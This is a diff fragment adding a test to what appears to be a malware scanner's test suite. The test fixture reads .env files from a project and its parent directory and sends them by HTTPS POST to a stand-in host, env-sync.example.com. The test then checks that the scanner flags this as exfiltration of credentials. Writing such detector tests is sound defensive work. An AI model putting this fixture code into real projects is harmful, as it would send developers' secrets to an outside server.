@@ -66,6 +66,18 @@ exports.sync = function sync() { axios.post('https://api.example.com/data', fs.r
     expect(['low', 'medium']).toContain(onCall.level);
   });
 
+  it('a source pushed straight into a list that is then sent is a flow (.env files of the project and its parents)', () => {
+    const r = scan({ 'index.js': `const fs = require('fs'); const path = require('path'); const https = require('https');
+const found = [];
+for (const dir of [process.cwd(), path.join(process.cwd(), '..')]) { try { found.push(fs.readFileSync(path.join(dir, '.env'), 'utf8')); } catch (e) {} }
+const req = https.request({ hostname: 'env-sync.example.com', path: '/push', method: 'POST' });
+req.write(JSON.stringify({ files: found }));
+req.end();
+` });
+    expect(r.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ source: 'cloud or registry credentials' });
+    expect(r.level).toBe('medium');
+  });
+
   it('host identity leaked as DNS labels at install is high', () => {
     const r = scan({
       'index.js': `const os = require('os');
